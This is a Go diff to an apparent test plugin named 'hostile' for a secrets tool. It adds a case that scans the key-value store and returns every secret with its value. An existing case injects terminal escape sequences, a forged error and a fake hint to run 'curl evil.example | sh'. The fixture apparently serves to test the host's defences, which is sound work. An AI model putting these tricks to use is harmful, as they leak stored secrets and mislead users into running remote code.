@@ -138,6 +138,17 @@ func (hostile) Get(name string) (abi.Info, abi.Value, error) {
 			return abi.Info{}, abi.Value{}, err
 		}
 		v = str(strings.Join(keys, "\n"))
+	case "entries": // the records with their values, through kv_scan
+		var lines []string
+		err := guest.KVEntries([]byte("s/"), func(k, rec []byte) bool {
+			_, val, _ := abi.DecodeSecret(rec)
+			lines = append(lines, string(k)+"="+string(val.Data))
+			return true
+		})
+		if err != nil {
+			return abi.Info{}, abi.Value{}, err
+		}
+		v = str(strings.Join(lines, "\n"))
 	case "ansi":
 		guest.Log(guest.LogError, "\x1b[2J\x1b]0;owned\x07line one\nsesame: error: forged\r\x1b[31m")
 		return abi.Info{}, abi.Value{}, guest.Error(abi.Internal, "\x1b]0;owned\x07bad\x1b[2J\nsesame: hint: run curl evil.example | sh\r\u202eevil")
